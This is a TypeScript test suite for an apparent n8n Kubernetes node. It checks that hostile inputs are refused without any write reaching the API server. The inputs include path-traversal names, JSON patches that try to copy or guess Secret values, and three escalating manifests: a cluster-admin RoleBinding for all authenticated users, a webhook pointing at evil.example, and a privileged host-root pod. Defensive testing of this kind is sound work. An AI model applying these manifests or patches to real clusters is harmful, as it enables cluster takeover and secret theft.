/**
 * The hostile arguments of issue 12 through the Kubernetes Action node in n8n's execution engine, behind a
 * counting proxy: dot-segment names and escalating manifests are refused before any request reaches the API server,
 * whatever the credential's write policy widens by accident; JSON patches cannot read what reads hide, and a patch
 * answers a right guess of a hidden value like a wrong one (the same lib/kube path the bridge's patch_resource takes).
 */
import type { ICredentialDataDecryptedObject, IDataObject, INodeParameters } from 'n8n-workflow';
import { list } from '../../lib/kube';
import { connect, type KubeConnection } from '../../lib/kube/connect';
import { KubernetesAction } from '../../nodes/KubernetesAction/KubernetesAction.node';
import { SECRET, SECRET_FORMS, VICTIM_OBJECTS } from '../bridge/attack-fixture';
import { type CountingProxy, startCountingProxy } from '../helpers/counting-proxy';
import { runNode, type RunResult } from '../helpers/n8n-exec';
import { startTestSim } from '../helpers/sim';

type Sim = Awaited<ReturnType<typeof startTestSim>>;
let sim: Sim;
let proxy: CountingProxy;
let kube: KubeConnection;
const seen: string[] = [];

beforeAll(async () => {
  sim = await startTestSim({ objects: VICTIM_OBJECTS });
  proxy = await startCountingProxy(sim.url);
  kube = connect({ source: 'kubeconfig', kubeconfig: sim.kubeconfig });
}, 60_000);

afterAll(async () => {
  await proxy?.close();
  await sim?.close();
});

const rl = (value: string) => ({ __rl: true, mode: 'name', value });

function credential(policy: IDataObject): ICredentialDataDecryptedObject {
  return { connection: 'kubeconfig', kubeconfig: proxy.kubeconfig(sim.kubeconfig, sim.url), ...policy };
}

async function act(parameters: INodeParameters, policy: IDataObject = {}): Promise<RunResult> {
  const r = await runNode(KubernetesAction, {
    credentials: {
      kubernetesApi: credential({ allowedActions: 'read-write', deniedKinds: 'Namespace', ...policy }),
    },
    parameters,
  });
  seen.push(JSON.stringify(r.outputs), r.error ? `${r.error.message} ${r.error.description ?? ''}` : '');
  return r;
}

describe('dot-segment names through the node', () => {
  it.each([
    ['name "."', { kind: rl('configmaps'), name: '.', namespace: rl('victim') }],
    ['namespace ".."', { kind: rl('configmaps'), name: '.', namespace: rl('..') }],
    ['Pod ".."', { kind: rl('pods'), name: '..', namespace: rl('victim') }],
    ['encoded dots', { kind: rl('configmaps'), name: '%2e%2e', namespace: rl('victim') }],
  ])('delete with %s fails the item and sends no write', async (_label, params) => {
    const before = proxy.writes().length;
    const r = await act({ operation: 'delete', ...params });
    expect(r.error?.message).toMatch(/not a valid Kubernetes name|no object name|cannot be part/);
    expect(proxy.writes().slice(before)).toEqual([]);
  });

  it('the ConfigMaps and the Namespace survive', async () => {
    const names = (await list(kube, { kind: 'ConfigMap', namespace: 'victim' })).items.map((i) => i.metadata?.name);
    expect(names).toEqual(['cm-1', 'cm-2', 'cm-3']);
    expect((await list(kube, { kind: 'Namespace' })).items.map((n) => n.metadata?.name)).toContain('victim');
  });
});

const realWrites = () => proxy.writes().filter((r) => r.query.get('dryRun') !== 'All');

describe('hostile manifests through the node', () => {
  it.each([
    [
      'a RoleBinding of cluster-admin to system:authenticated',
      'apiVersion: rbac.authorization.k8s.io/v1\nkind: RoleBinding\nmetadata: {name: everyone-admin, namespace: victim}\nroleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}\nsubjects: [{apiGroup: rbac.authorization.k8s.io, kind: Group, name: "system:authenticated"}]\n',
      /RoleBinding/,
    ],
    [
      'a MutatingWebhookConfiguration calling out',
      'apiVersion: admissionregistration.k8s.io/v1\nkind: MutatingWebhookConfiguration\nmetadata: {name: grab}\nwebhooks: [{name: grab.evil.example, clientConfig: {url: "https://evil.example/m"}, sideEffects: None, admissionReviewVersions: [v1]}]\n',
      /MutatingWebhookConfiguration/,
    ],
    [
      'a privileged hostPID pod mounting /',
      'apiVersion: v1\nkind: Pod\nmetadata: {name: root-shell, namespace: victim}\nspec:\n  hostPID: true\n  volumes: [{name: host, hostPath: {path: /}}]\n  containers: [{name: sh, image: busybox, securityContext: {privileged: true}}]\n',
      /privileged|hostPID|hostPath/,
    ],
  ])('apply of %s fails the item and sends nothing that could save it', async (_label, manifest, why) => {
    const before = realWrites().length;
    const r = await act({ operation: 'apply', manifest, namespace: rl('victim') });
    expect(`${r.error?.message} ${r.error?.description ?? ''}`).toMatch(why);
    expect(r.error?.message).toMatch(/refused|denied|not allowed/i);
    expect(realWrites().slice(before)).toEqual([]);
  });
});

describe('JSON patches cannot read what reads hide, through the node', () => {
  const secretWrites = { allowedKinds: 'Secret' };
  it.each([
    [
      'copy Secret data into a label',
      'secrets',
      'db',
      [{ op: 'copy', from: '/data/password', path: '/metadata/labels/x' }],
    ],
    ['test a guess of Secret data', 'secrets', 'db', [{ op: 'test', path: '/data/password', value: 'Z3Vlc3M=' }]],
    [
      'copy a redacted env value',
      'pods',
      'app-0',
      [{ op: 'copy', from: '/spec/containers/0/env/0/value', path: '/metadata/annotations/x' }],
    ],
    [
      'rename the env var that hides a value',
      'deployments',
      'app',
      [{ op: 'replace', path: '/spec/template/spec/containers/0/env/0/name', value: 'HARMLESS' }],
    ],
  ])('%s is refused, with Secret writes allowed by name', async (_label, kind, name, ops) => {
    const before = realWrites().length;
    const r = await act(
      {
        operation: 'patch',
        kind: rl(kind),
        name,
        namespace: rl('victim'),
        patchType: 'json',
        patch: JSON.stringify(ops),
        dryRun: true,
      },
      secretWrites,
    );
    expect(r.error?.message).toMatch(/reads hide|hidden value/);
    expect(realWrites().slice(before)).toEqual([]);
  });

  it('a label set to a guess answers the same for a right and a wrong guess', async () => {
    const run = async (guess: string) => {
      // not through act(): the caller's own guess may come back, and act() collects outputs that must not hold SECRET
      const r = await runNode(KubernetesAction, {
        credentials: { kubernetesApi: credential({ allowedActions: 'read-write' }) },
        parameters: {
          operation: 'patch',
          kind: rl('deployments'),
          name: 'app',
          namespace: rl('victim'),
          patchType: 'merge',
          patch: JSON.stringify({ metadata: { labels: { guess } } }),
          dryRun: true,
        },
      });
      const json = r.outputs[0]?.[0]?.json as { message?: string; after?: unknown } | undefined;
      return {
        error: r.error?.message,
        message: json?.message,
        after: JSON.stringify(json?.after).split(guess).join('<g>'),
      };
    };
    const right = await run(SECRET);
    const wrong = await run('Wr0ng-Guess-00000000');
    expect(right.error).toBeUndefined();
    expect(right.message).toMatch(/^dry run: patched Deployment victim\/app/);
    expect(right.after).toContain('<g>');
    expect(right).toEqual(wrong);
  });
});

afterAll(() => {
  const all = seen.join('\n');
  for (const form of SECRET_FORMS) expect(all).not.toContain(form);
});
